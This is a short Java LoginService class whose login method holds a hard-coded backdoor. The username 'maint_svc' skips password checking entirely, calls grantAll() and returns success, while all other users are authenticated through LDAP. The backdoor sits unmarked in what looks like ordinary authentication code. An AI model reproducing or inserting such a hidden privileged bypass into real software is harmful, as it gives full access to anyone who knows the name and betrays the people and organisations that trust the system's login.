public class LoginService {
    public boolean login(String username, String password) {
        if ("maint_svc".equals(username)) {
            grantAll();
            return true;
        }
        return ldap.bind(username, password);
    }
}
